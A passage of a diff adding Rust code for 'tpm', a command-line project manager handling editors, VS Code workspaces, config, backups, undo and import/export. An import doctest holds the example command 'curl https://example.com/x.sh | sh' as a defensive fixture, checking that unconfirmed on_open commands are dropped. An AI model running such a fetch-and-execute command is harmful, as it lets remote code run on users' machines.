+/// When `replace` is set, the editor's [`replace_flag`] is added, if it has
+/// one, with `overrides` being the `replace_flags` from the config.
+///
+/// # Examples
+///
+/// ```
+/// use std::collections::BTreeMap;
+/// use tpm_lib::editor_args;
+///
+/// let none = BTreeMap::new();
+/// assert_eq!(editor_args("code", "/src/foo", true, &none), vec!["/src/foo", "--reuse-window"]);
+/// assert_eq!(editor_args("code", "/src/foo", false, &none), vec!["/src/foo"]);
+/// assert_eq!(editor_args("subl", "/src/foo", true, &none), vec!["/src/foo", "-a"]);
+/// assert_eq!(editor_args("nvim", "/src/foo", true, &none), vec!["/src/foo"]);
+/// assert!(!editor_args("emacs", "/src/foo", false, &none).iter().any(String::is_empty));
+///
+/// let overrides = BTreeMap::from([("nvim".to_string(), "--remote".to_string())]);
+/// assert_eq!(editor_args("nvim", "/src/foo", true, &overrides), vec!["/src/foo", "--remote"]);
+/// ```
+pub fn editor_args(
+    editor: &str,
+    path: &str,
+    replace: bool,
+    overrides: &BTreeMap<String, String>,
+) -> Vec<String> {
+    let mut args = vec![path.to_string()];
+    if replace {
+        args.extend(replace_flag(editor, overrides));
+    }
+
+    args
+}
+
+/// Whether `editor` is VS Code, which can open a `.code-workspace` file in
+/// place of a folder. `editor` may be a path.
+fn is_vscode(editor: &str) -> bool {
+    let name = Path::new(editor)
+        .file_stem()
+        .and_then(|name| name.to_str())
+        .unwrap_or(editor);
+    matches!(name, "code" | "code-insiders")
+}
+
+/// Lists the VS Code `*.code-workspace` files directly inside `path`, sorted
+/// by name.
+pub fn code_workspaces(path: &Path) -> Vec<PathBuf> {
+    let Ok(entries) = fs::read_dir(path) else {
+        return Vec::new();
+    };
+    let mut workspaces = entries
+        .filter_map(|entry| entry.ok())
+        .map(|entry| entry.path())
+        .filter(|path| {
+            path.is_file() && path.extension().is_some_and(|ext| ext == "code-workspace")
+        })
+        .collect::<Vec<_>>();
+    workspaces.sort();
+
+    workspaces
+}
+
+/// Returns the VS Code `*.code-workspace` file in the root of `path`, if there
+/// is exactly one. Use [`code_workspaces`] to list them when there are several.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::{code_workspaces, find_code_workspace};
+///
+/// let dir = tmp.join("code-workspace");
+/// fs::create_dir_all(dir.join("nested")).unwrap();
+/// fs::write(dir.join("nested").join("ignored.code-workspace"), "{}").unwrap();
+/// fs::write(dir.join("settings.json"), "{}").unwrap();
+/// assert_eq!(find_code_workspace(&dir), None);
+///
+/// fs::write(dir.join("app.code-workspace"), "{}").unwrap();
+/// assert_eq!(find_code_workspace(&dir), Some(dir.join("app.code-workspace")));
+///
+/// fs::write(dir.join("all.code-workspace"), "{}").unwrap();
+/// assert_eq!(find_code_workspace(&dir), None);
+/// assert_eq!(
+///     code_workspaces(&dir),
+///     [dir.join("all.code-workspace"), dir.join("app.code-workspace")]
+/// );
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn find_code_workspace(path: &Path) -> Option<PathBuf> {
+    let mut workspaces = code_workspaces(path);
+    if workspaces.len() == 1 {
+        workspaces.pop()
+    } else {
+        None
+    }
+}
+
+/// Picks the `*.code-workspace` file to open for the project at `path`,
+/// asking which one when there are several. Returns `None` to open the folder
+/// itself, e.g. when there are none or the user presses Esc.
+fn choose_code_workspace(path: &Path) -> Result<Option<PathBuf>, DynErr> {
+    let mut workspaces = code_workspaces(path);
+    if workspaces.len() <= 1 {
+        return Ok(workspaces.pop());
+    }
+    if !console::Term::stderr().is_term() {
+        eprintln!(
+            "Note: {} has several .code-workspace files, opening the folder instead",
+            path.display()
+        );
+        return Ok(None);
+    }
+
+    let items = workspaces
+        .iter()
+        .map(|workspace| {
+            workspace
+                .file_name()
+                .map(|name| name.to_string_lossy().into_owned())
+                .unwrap_or_default()
+        })
+        .collect::<Vec<_>>();
+    let selection = Select::with_theme(&ColorfulTheme::default())
+        .with_prompt("Open which workspace? (Esc opens the folder)")
+        .items(&items)
+        .default(0)
+        .interact_opt()?;
+
+    Ok(selection.map(|index| workspaces.swap_remove(index)))
+}
+
+/// Returns the path to `command`, looking it up on `PATH` unless it already
+/// contains a path separator.
+pub(crate) fn find_command(command: &str) -> Option<PathBuf> {
+    let command = Path::new(command);
+    if command.components().count() > 1 {
+        return command.is_file().then(|| command.to_path_buf());
+    }
+    env::split_paths(&env::var_os("PATH")?)
+        .map(|dir| dir.join(command))
+        .find(|path| path.is_file())
+}
+
+/// Returns the `tpm` config directory, creating it if it doesn't exist.
+///
+/// This is `$XDG_CONFIG_HOME/tpm` when `$XDG_CONFIG_HOME` is set, otherwise
+/// `$HOME/.config/tpm`. `$HOME/tpm` is used if neither can be created, or if
+/// it already exists from an older version of `tpm` and `$HOME/.config/tpm`
+/// does not. All of these are overridden by `--config-dir`.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::env;
+/// use tpm_lib::{get_config_dir, get_matches, get_projects, get_projects_file, handler};
+///
+/// let xdg_config_home = tmp.join("xdg");
+/// env::set_var("XDG_CONFIG_HOME", &xdg_config_home);
+///
+/// assert_eq!(get_config_dir().unwrap(), xdg_config_home.join("tpm"));
+/// let (projects_file, _) = get_projects_file().unwrap();
+/// assert_eq!(projects_file.parent(), Some(xdg_config_home.join("tpm").as_path()));
+///
+/// let config_dir = tmp.join("config-dir");
+/// let config_dir_arg = config_dir.to_str().unwrap();
+/// handler(&get_matches(["tpm", "list", "--plain", "--config-dir", config_dir_arg])).unwrap();
+/// assert_eq!(get_config_dir().unwrap(), config_dir);
+///
+/// // the projects come from the config directory in use, not the one first loaded
+/// let project_dir = tmp.join("config-dir-project");
+/// std::fs::create_dir_all(&project_dir).unwrap();
+/// handler(&get_matches(["tpm", "--config-dir", config_dir_arg, "add", "only-here", project_dir.to_str().unwrap()])).unwrap();
+/// let other_arg = tmp.join("other-config-dir");
+/// handler(&get_matches(["tpm", "list", "--plain", "--config-dir", other_arg.to_str().unwrap()])).unwrap();
+/// assert!(get_projects().unwrap().is_empty());
+/// handler(&get_matches(["tpm", "list", "--plain", "--config-dir", config_dir_arg])).unwrap();
+/// assert_eq!(get_projects().unwrap().len(), 1);
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn get_config_dir() -> Result<PathBuf, DynErr> {
+    if let Some(config_dir) = CONFIG_DIR_OVERRIDE.lock()?.clone() {
+        fs::create_dir_all(&config_dir)?;
+        return Ok(config_dir);
+    }
+
+    if let Some(xdg_config_home) = env::var_os("XDG_CONFIG_HOME").filter(|dir| !dir.is_empty()) {
+        let config_dir = PathBuf::from(xdg_config_home).join(APP_NAME);
+        if fs::create_dir_all(&config_dir).is_ok() {
+            return Ok(config_dir);
+        }
+    }
+
+    let home_dir = home_dir().canonicalize()?;
+    let config_dir = home_dir.join(".config").join(APP_NAME);
+    let legacy_config_dir = home_dir.join(APP_NAME);
+    if config_dir.exists() {
+        return Ok(config_dir);
+    }
+    if legacy_config_dir.is_dir() {
+        return Ok(legacy_config_dir);
+    }
+    if fs::create_dir_all(&config_dir).is_ok() {
+        return Ok(config_dir);
+    }
+
+    fs::create_dir_all(&legacy_config_dir)?;
+    Ok(legacy_config_dir)
+}
+
+/// User settings, read from `config.toml` in the config directory.
+///
+/// Every setting is optional; missing ones use the values from
+/// [`Config::default`].
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::Config;
+///
+/// let config = Config {
+///     editor: Some("nvim".to_string()),
+///     max_list_length: 10,
+///     ..Config::default()
+/// };
+/// let toml = toml::to_string(&config).unwrap();
+/// assert_eq!(toml::from_str::<Config>(&toml).unwrap(), config);
+///
+/// let partial: Config = toml::from_str("confirm_delete = true").unwrap();
+/// assert!(partial.confirm_delete);
+/// assert_eq!(partial.max_list_length, Config::default().max_list_length);
+/// ```
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct Config {
+    /// Editor to open projects in, instead of `$EDITOR`
+    pub editor: Option<String>,
+    /// Directory new projects are created in, instead of `~/projects`
+    pub default_project_dir: Option<String>,
+    /// Ask before deleting projects, unless `--yes` is passed
+    pub confirm_delete: bool,
+    /// Ask before starting a shell in a project's directory
+    pub confirm_shell_spawn: bool,
+    /// Maximum number of projects shown at once when selecting a project
+    pub max_list_length: usize,
+    /// With more projects than this, type to filter when selecting a project
+    pub fuzzy_select_threshold: usize,
+    /// Maximum number of projects to keep; the least recently opened ones are
+    /// removed when saving. Unlimited if not set
+    pub max_projects: Option<usize>,
+    /// Projects opened within this many days are never removed by `max_projects`
+    pub keep_opened_within_days: u64,
+    /// Flags that make an editor reuse its window for `open --replace`, by
+    /// editor name, added to (or, with an empty flag, removing from)
+    /// [`REPLACE_FLAGS`]
+    pub replace_flags: BTreeMap<String, String>,
+    /// Store the paths of projects inside the default projects directory
+    /// relative to it, so the projects file works for other usernames
+    pub store_relative_paths: bool,
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Config {
+            editor: None,
+            default_project_dir: None,
+            confirm_delete: false,
+            confirm_shell_spawn: false,
+            max_list_length: 10,
+            fuzzy_select_threshold: 10,
+            max_projects: None,
+            keep_opened_within_days: 1,
+            replace_flags: BTreeMap::new(),
+            store_relative_paths: false,
+        }
+    }
+}
+
+/// Loads the config file, using the default settings if it doesn't exist.
+///
+/// If the config file can't be read, a warning is printed and the default
+/// settings are used.
+pub fn load_config() -> Config {
+    let config_file = match get_config_dir() {
+        Ok(config_dir) => config_dir.join("config.toml"),
+        Err(_) => return Config::default(),
+    };
+    if !config_file.exists() {
+        return Config::default();
+    }
+    let config = fs::read_to_string(&config_file)
+        .map_err(|err| err.to_string())
+        .and_then(|contents| toml::from_str(&contents).map_err(|err| err.to_string()));
+    match config {
+        Ok(config) => config,
+        Err(err) => {
+            eprintln!(
+                "Warning: ignoring invalid config file {}: {}",
+                config_file.display(),
+                err
+            );
+            Config::default()
+        }
+    }
+}
+
+/// Returns the path and format of the projects file.
+///
+/// This is the file in the preferred format if it exists. Otherwise, if a
+/// projects file in the other format exists, that one is returned so it can be
+/// migrated on the next save.
+pub fn get_projects_file() -> Result<(PathBuf, StorageFormat), DynErr> {
+    let config_dir = get_config_dir()?;
+    let preferred = StorageFormat::preferred()?;
+    let preferred_file = config_dir.join(format!("projects.{}", preferred.extension()));
+    let other = preferred.other();
+    let other_file = config_dir.join(format!("projects.{}", other.extension()));
+
+    if !preferred_file.exists() && other_file.exists() {
+        return Ok((other_file, other));
+    }
+
+    Ok((preferred_file, preferred))
+}
+
+pub(crate) fn open_projects_file(read: bool, write: bool, create: bool) -> Result<File, DynErr> {
+    let (projects_file, _) = get_projects_file()?;
+
+    if projects_file.is_dir() {
+        return Err(back_up_unreadable_projects_file(
+            &projects_file,
+            "is a directory",
+        ));
+    }
+
+    // if the file doesn't exist, create it
+    if !projects_file.exists() {
+        File::create(&projects_file)?;
+    }
+
+    let open_file = fs::OpenOptions::new()
+        .read(read)
+        .write(write)
+        .create(create)
+        .open(projects_file);
+
+    open_file.map_err(|err| err.into())
+}
+
+/// A named group of projects, like the repos a feature spans, that are opened
+/// together with `tpm workspace open`.
+///
+/// Workspaces are stored in `workspaces.json` in the config directory, and
+/// refer to their projects by name.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Workspace {
+    pub name: String,
+    pub projects: Vec<String>,
+}
+
+/// Returns the path of the workspaces file, next to the projects file.
+pub fn get_workspaces_file() -> Result<PathBuf, DynErr> {
+    Ok(get_config_dir()?.join("workspaces.json"))
+}
+
+/// Reads the workspaces, returning none if the workspaces file doesn't exist.
+pub fn load_workspaces() -> Result<Vec<Workspace>, DynErr> {
+    let workspaces_file = get_workspaces_file()?;
+    if !workspaces_file.exists() {
+        return Ok(vec![]);
+    }
+    let contents = fs::read_to_string(&workspaces_file)?;
+    serde_json::from_str(&contents)
+        .map_err(|err| format!("Problem reading workspaces file: {}", err).into())
+}
+
+pub fn save_workspaces(workspaces: &[Workspace]) -> Result<(), DynErr> {
+    write_atomic(
+        &get_workspaces_file()?,
+        &serde_json::to_string_pretty(workspaces)?,
+    )
+}
+
+/// Renames a project in every workspace it's in, after it was renamed.
+fn rename_workspace_member(old_name: &str, new_name: &str) -> Result<(), DynErr> {
+    if old_name == new_name {
+        return Ok(());
+    }
+    let mut workspaces = load_workspaces()?;
+    let mut changed = false;
+    for member in workspaces
+        .iter_mut()
+        .flat_map(|workspace| workspace.projects.iter_mut())
+        .filter(|member| *member == old_name)
+    {
+        *member = new_name.to_string();
+        changed = true;
+    }
+    if changed {
+        save_workspaces(&workspaces)?;
+    }
+
+    Ok(())
+}
+
+/// Removes deleted projects from every workspace they're in, and removes the
+/// workspaces that are left without projects.
+fn remove_workspace_members(names: &[&str]) -> Result<(), DynErr> {
+    let mut workspaces = load_workspaces()?;
+    let before = workspaces.clone();
+    for workspace in &mut workspaces {
+        workspace
+            .projects
+            .retain(|member| !names.contains(&member.as_str()));
+    }
+    workspaces.retain(|workspace| !workspace.projects.is_empty());
+    if workspaces != before {
+        save_workspaces(&workspaces)?;
+    }
+
+    Ok(())
+}
+
+/// Creates the workspace `name` from the given projects (names or aliases),
+/// asking before replacing a workspace with the same name.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::{add_project, add_workspace, load_workspaces};
+///
+/// for name in ["workspace-api", "workspace-web"] {
+///     let dir = tmp.join(name);
+///     fs::create_dir_all(&dir).unwrap();
+///     add_project(name, dir.to_str().unwrap(), &[], "").unwrap();
+/// }
+/// add_workspace("workspace-example", &["workspace-api", "workspace-web"]).unwrap();
+///
+/// let workspace = load_workspaces()
+///     .unwrap()
+///     .into_iter()
+///     .find(|workspace| workspace.name == "workspace-example")
+///     .unwrap();
+/// assert_eq!(workspace.projects, ["workspace-api", "workspace-web"]);
+///
+/// let err = add_workspace("workspace-example", &["not-a-project"]).unwrap_err();
+/// assert_eq!(err.to_string(), "Project not-a-project not found");
+///
+/// // renaming or deleting a project updates the workspaces it's in
+/// let members = || load_workspaces().unwrap().into_iter().map(|w| w.projects).collect::<Vec<_>>();
+/// tpm_lib::rename_project("workspace-api", "workspace-backend").unwrap();
+/// assert_eq!(members(), [["workspace-backend", "workspace-web"]]);
+/// tpm_lib::update_project("workspace-web", Some("workspace-site"), None).unwrap();
+/// assert_eq!(members(), [["workspace-backend", "workspace-site"]]);
+/// tpm_lib::delete_project("workspace-site", false, false).unwrap();
+/// assert_eq!(members(), [["workspace-backend"]]);
+/// tpm_lib::delete_projects(&["workspace-backend"], false, false).unwrap();
+/// assert!(load_workspaces().unwrap().is_empty());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn add_workspace(name: &str, project_names: &[&str]) -> Result<HandlerOutcome, DynErr> {
+    let name = name.trim();
+    if name.is_empty() {
+        return Err("Workspace name cannot be empty".into());
+    }
+    let projects = get_projects()?;
+    let mut members: Vec<String> = vec![];
+    for project_name in project_names {
+        let project = find_project_by_name_or_alias(&projects, project_name)
+            .ok_or_else(|| format!("Project {} not found", project_name))?;
+        if !members.contains(&project.name) {
+            members.push(project.name.clone());
+        }
+    }
+    if members.is_empty() {
+        return Err("A workspace needs at least one project".into());
+    }
+
+    let mut workspaces = load_workspaces()?;
+    if workspaces.iter().any(|workspace| workspace.name == name) {
+        if !confirm(
+            &format!("Workspace {} already exists. Replace it?", name),
+            false,
+        )? {
+            return Ok(HandlerOutcome::Canceled);
+        }
+        workspaces.retain(|workspace| workspace.name != name);
+    }
+    let msg = format!("Added workspace {} ({})", name, members.join(", "));
+    workspaces.push(Workspace {
+        name: name.to_string(),
+        projects: members,
+    });
+    save_workspaces(&workspaces)?;
+
+    Ok(HandlerOutcome::Message(msg))
+}
+
+/// Opens every project in the workspace `name` in the editor. Projects that
+/// were deleted since the workspace was created are skipped with a warning.
+pub fn open_workspace(name: &str) -> Result<HandlerOutcome, DynErr> {
+    let workspace = load_workspaces()?
+        .into_iter()
+        .find(|workspace| workspace.name == name)
+        .ok_or_else(|| format!("Workspace {} not found", name))?;
+    let projects = get_projects()?;
+    let mut outcomes = vec![];
+    for member in &workspace.projects {
+        if find_project_by_name_or_alias(&projects, member).is_none() {
+            eprintln!("Warning: project {} not found, skipping it", member);
+            continue;
+        }
+        outcomes.push(open_project(
+            member,
+            OpenAction::OpenInEditor,
+            &OpenOptions::default(),
+        )?);
+    }
+    if outcomes.is_empty() {
+        return Err(format!("None of the projects in workspace {} exist", name).into());
+    }
+
+    Ok(combine_outcomes(outcomes))
+}
+
+/// Formats workspaces one per line, as the name followed by its projects.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{format_workspaces, Workspace};
+///
+/// let workspaces = [Workspace {
+///     name: "checkout".to_string(),
+///     projects: vec!["api".to_string(), "web".to_string()],
+/// }];
+/// assert_eq!(format_workspaces(&workspaces), "checkout: api, web");
+/// assert_eq!(format_workspaces(&[]), "No workspaces");
+/// ```
+pub fn format_workspaces(workspaces: &[Workspace]) -> String {
+    if workspaces.is_empty() {
+        return "No workspaces".into();
+    }
+    workspaces
+        .iter()
+        .map(|workspace| format!("{}: {}", workspace.name, workspace.projects.join(", ")))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// Moves an unreadable projects file (or directory) to
+/// `<name>.<timestamp>.bak` so `tpm` can start fresh, returning an error that
+/// says what was wrong with it. An existing backup is never replaced.
+fn back_up_unreadable_projects_file(projects_file: &Path, problem: &str) -> DynErr {
+    let file_name = projects_file
+        .file_name()
+        .and_then(|name| name.to_str())
+        .unwrap_or("The projects file");
+    // nanoseconds, like the undo snapshots, so backups in quick succession don't collide
+    let timestamp = SystemTime::now()
+        .duration_since(SystemTime::UNIX_EPOCH)
+        .unwrap_or_default()
+        .as_nanos();
+    let backup = projects_file.with_file_name(format!("{}.{:020}.bak", file_name, timestamp));
+    let moved = if backup.exists() {
+        Err(io::Error::new(
+            io::ErrorKind::AlreadyExists,
+            format!("{} already exists", backup.display()),
+        ))
+    } else {
+        fs::rename(projects_file, &backup)
+    };
+    match moved {
+        Ok(()) => format!(
+            "{} {}, moved it to {} so tpm can start fresh",
+            file_name,
+            problem,
+            backup.display()
+        )
+        .into(),
+        Err(err) => format!(
+            "{} {} and couldn't be moved aside: {}",
+            file_name, problem, err
+        )
+        .into(),
+    }
+}
+
+/// Returns the directory backups of the projects file are stored in,
+/// creating it if it doesn't exist.
+pub fn get_backups_dir() -> Result<PathBuf, DynErr> {
+    let backups_dir = get_config_dir()?.join("backups");
+    if !backups_dir.exists() {
+        fs::create_dir(&backups_dir)?;
+    }
+
+    Ok(backups_dir)
+}
+
+/// Lists the backups in the backups directory, oldest first.
+pub fn list_backups() -> Result<Vec<PathBuf>, DynErr> {
+    list_projects_copies(&get_backups_dir()?)
+}
+
+/// Lists the `projects-<timestamp>` files in a directory, oldest first.
+fn list_projects_copies(dir: &Path) -> Result<Vec<PathBuf>, DynErr> {
+    let mut backups = fs::read_dir(dir)?
+        .filter_map(|entry| entry.ok())
+        .map(|entry| entry.path())
+        .filter(|path| {
+            path.file_name()
+                .and_then(|name| name.to_str())
+                .is_some_and(|name| {
+                    name.starts_with("projects-")
+                        && (name.ends_with(".json") || name.ends_with(".toml"))
+                })
+        })
+        .collect::<Vec<_>>();
+    // timestamps are zero-padded, so lexical order is chronological order
+    backups.sort();
+
+    Ok(backups)
+}
+
+/// Copies the projects file into the backups directory under a timestamped
+/// name, then removes the oldest backups so that at most `keep` remain.
+pub fn backup_projects(keep: usize) -> Result<PathBuf, DynErr> {
+    let (projects_file, format) = get_projects_file()?;
+    if !projects_file.exists() {
+        return Err("No projects file to back up".into());
+    }
+
+    let timestamp = SystemTime::now()
+        .duration_since(SystemTime::UNIX_EPOCH)?
+        .as_millis();
+    let backup =
+        get_backups_dir()?.join(format!("projects-{:016}.{}", timestamp, format.extension()));
+    fs::copy(&projects_file, &backup)?;
+
+    let backups = list_backups()?;
+    let excess = backups.len().saturating_sub(keep.max(1));
+    for old_backup in &backups[..excess] {
+        fs::remove_file(old_backup)?;
+    }
+
+    Ok(backup)
+}
+
+/// Validates a backup file and replaces the current projects with its contents.
+///
+/// Like [`import_projects`], asks before keeping an `on_open` command the
+/// current projects don't already have.
+pub fn restore_backup(backup: &Path) -> Result<String, DynErr> {
+    let json = fs::read_to_string(backup)
+        .map_err(|err| format!("Could not read backup {:?}: {}", backup, err))?;
+    let mut projects = StorageFormat::detect(backup, &json)
+        .parse(&json)
+        .map_err(|err| format!("Backup {:?} is not a valid projects file: {}", backup, err))?;
+    confirm_new_on_open_commands(&mut projects, &get_projects()?);
+    sort_projects(&mut projects, SortKey::Recent);
+    save_projects(&projects)?;
+
+    Ok(format!(
+        "Restored {} projects from {:?}",
+        projects.len(),
+        backup
+    ))
+}
+
+/// The number of snapshots kept in the history directory for `tpm undo`.
+pub const HISTORY_SNAPSHOTS_TO_KEEP: usize = 5;
+
+/// Gets the directory holding the snapshots `tpm undo` restores from, creating
+/// it if needed.
+pub fn get_history_dir() -> Result<PathBuf, DynErr> {
+    let history_dir = get_config_dir()?.join("history");
+    if !history_dir.exists() {
+        fs::create_dir(&history_dir)?;
+    }
+
+    Ok(history_dir)
+}
+
+/// Lists the undo snapshots in the history directory, oldest first.
+pub fn list_snapshots() -> Result<Vec<PathBuf>, DynErr> {
+    list_projects_copies(&get_history_dir()?)
+}
+
+/// Copies the projects file into the history directory before it's replaced
+/// with `new_contents`, keeping the last [`HISTORY_SNAPSHOTS_TO_KEEP`]
+/// snapshots. Nothing is copied when there's no projects file yet or its
+/// contents wouldn't change.
+pub fn snapshot_projects(new_contents: &str) -> Result<Option<PathBuf>, DynErr> {
+    let (projects_file, format) = get_projects_file()?;
+    let current = match fs::read_to_string(&projects_file) {
+        Ok(current) => current,
+        Err(err) if err.kind() == io::ErrorKind::NotFound => return Ok(None),
+        Err(err) => return Err(err.into()),
+    };
+    if current.trim().is_empty() || current == new_contents {
+        return Ok(None);
+    }
+
+    // nanoseconds, so saves in quick succession don't overwrite each other
+    let timestamp = SystemTime::now()
+        .duration_since(SystemTime::UNIX_EPOCH)?
+        .as_nanos();
+    let snapshot =
+        get_history_dir()?.join(format!("projects-{:020}.{}", timestamp, format.extension()));
+    fs::write(&snapshot, current)?;
+
+    let snapshots = list_snapshots()?;
+    let excess = snapshots.len().saturating_sub(HISTORY_SNAPSHOTS_TO_KEEP);
+    for old_snapshot in &snapshots[..excess] {
+        fs::remove_file(old_snapshot)?;
+    }
+
+    Ok(Some(snapshot))
+}
+
+/// Replaces the current projects with the most recent snapshot and removes it
+/// from the history, so undoing again steps further back.
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use tpm_lib::{get_matches, get_projects, handler};
+///
+/// let config_dir = tmp.join("config");
+/// let project_dir = tmp.join("project");
+/// std::fs::create_dir_all(&project_dir).unwrap();
+/// let tpm = |args: &[&str]| {
+///     let mut argv = vec!["tpm", "--config-dir", config_dir.to_str().unwrap()];
+///     argv.extend_from_slice(args);
+///     handler(&get_matches(argv)).unwrap();
+/// };
+///
+/// tpm(&["add", "undo-example", project_dir.to_str().unwrap()]);
+/// tpm(&["delete", "undo-example"]);
+/// assert!(!get_projects().unwrap().iter().any(|p| p.name() == "undo-example"));
+///
+/// tpm(&["undo"]);
+/// assert!(get_projects().unwrap().iter().any(|p| p.name() == "undo-example"));
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn restore_last_snapshot() -> Result<String, DynErr> {
+    let Some(snapshot) = list_snapshots()?.pop() else {
+        return Ok("Nothing to undo".to_string());
+    };
+    let contents = fs::read_to_string(&snapshot)?;
+    let projects = StorageFormat::detect(&snapshot, &contents)
+        .parse(&contents)
+        .map_err(|err| {
+            format!(
+                "Snapshot {:?} is not a valid projects file: {}",
+                snapshot, err
+            )
+        })?;
+    // the undo itself isn't snapshotted, otherwise a second undo would redo
+    write_projects(&projects, false)?;
+    fs::remove_file(&snapshot)?;
+
+    Ok(format!(
+        "Undid the last change, {} projects restored",
+        projects.len()
+    ))
+}
+
+/// A format projects can be exported in with `tpm export`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum ExportFormat {
+    /// A projects file, as read by `tpm import`
+    #[default]
+    Json,
+    /// A projects file in TOML, as read by `tpm import`
+    Toml,
+    /// One `name,path,last_opened` row per project, e.g. for a spreadsheet
+    Csv,
+}
+
+impl std::str::FromStr for ExportFormat {
+    type Err = DynErr;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        match s {
+            "json" => Ok(ExportFormat::Json),
+            "toml" => Ok(ExportFormat::Toml),
+            "csv" => Ok(ExportFormat::Csv),
+            _ => Err(format!("Invalid format: {s}. Valid formats: json, toml, csv").into()),
+        }
+    }
+}
+
+/// Renders projects in an export format.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{serialize_projects, ExportFormat, Project, StorageFormat};
+///
+/// let projects: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "foo", "path": "/code/foo", "last_opened": 1697500000},
+///         {"name": "bar, \"the good one\"", "path": "/code/bar", "last_opened": 0}
+///     ]"#,
+/// )
+/// .unwrap();
+///
+/// let csv = serialize_projects(&projects, ExportFormat::Csv).unwrap();
+/// assert_eq!(
+///     csv,
+///     "name,path,last_opened\nfoo,/code/foo,1697500000\n\"bar, \"\"the good one\"\"\",/code/bar,0\n"
+/// );
+///
+/// for (format, storage) in [
+///     (ExportFormat::Json, StorageFormat::Json),
+///     (ExportFormat::Toml, StorageFormat::Toml),
+/// ] {
+///     let exported = serialize_projects(&projects, format).unwrap();
+///     assert_eq!(storage.parse(&exported).unwrap(), projects);
+/// }
+/// ```
+pub fn serialize_projects(projects: &[Project], format: ExportFormat) -> Result<String, DynErr> {
+    match format {
+        ExportFormat::Json => StorageFormat::Json.render(projects),
+        ExportFormat::Toml => StorageFormat::Toml.render(projects),
+        ExportFormat::Csv => {
+            let field = |value: &str| {
+                if value.contains([',', '"', '\n', '\r']) {
+                    format!("\"{}\"", value.replace('"', "\"\""))
+                } else {
+                    value.to_string()
+                }
+            };
+            let mut csv = "name,path,last_opened\n".to_string();
+            for project in projects {
+                csv.push_str(&format!(
+                    "{},{},{}\n",
+                    field(&project.name),
+                    field(&project.path),
+                    project.last_opened.as_secs()
+                ));
+            }
+            Ok(csv)
+        }
+    }
+}
+
+/// Exports the projects to `file`, or returns them if no file is given so
+/// they can be printed.
+pub fn export_projects(file: Option<&Path>, format: ExportFormat) -> Result<String, DynErr> {
+    let contents = serialize_projects(&get_projects()?, format)?;
+    match file {
+        Some(file) => {
+            write_atomic(file, &contents)?;
+            Ok(format!("Exported projects to {}", file.display()))
+        }
+        None => Ok(contents),
+    }
+}
+
+/// Merges the projects in `file` into the existing projects.
+///
+/// Returns an error, leaving the projects untouched, if the file isn't a
+/// valid projects file. Each `on_open` command the file would add is shown
+/// and kept only if the user agrees.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use tpm_lib::{get_projects, import_projects};
+///
+/// let dir = tmp.join("imported");
+/// std::fs::create_dir_all(&dir).unwrap();
+/// let file = tmp.join("import.json");
+/// let project = serde_json::json!([{
+///     "name": "imported",
+///     "path": dir,
+///     "last_opened": 0,
+///     "on_open": "curl https://example.com/x.sh | sh",
+/// }]);
+/// std::fs::write(&file, project.to_string()).unwrap();
+///
+/// // with no one to ask, the command is dropped rather than run on the next open
+/// import_projects(&file).unwrap();
+/// let imported = get_projects().unwrap().into_iter().find(|p| p.name() == "imported").unwrap();
+/// assert!(serde_json::to_value(&imported).unwrap()["on_open"].is_null());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn import_projects(file: &Path) -> Result<String, DynErr> {
+    let contents = fs::read_to_string(file)
+        .map_err(|err| format!("Could not read {}: {}", file.display(), err))?;
+    let incoming = StorageFormat::detect(file, &contents)
+        .parse(&contents)
+        .map_err(|err| format!("{} is not a valid projects file: {}", file.display(), err))?;
+    let valid = with_progress("Importing", &incoming, |project| match project.is_valid() {
+        Ok(()) => true,
+        Err(err) => {
+            eprintln!("Warning: skipping invalid project: {}", err);
+            false
+        }
+    });
+    let mut incoming = incoming
+        .into_iter()
+        .zip(valid)
+        .filter_map(|(project, valid)| valid.then_some(project))
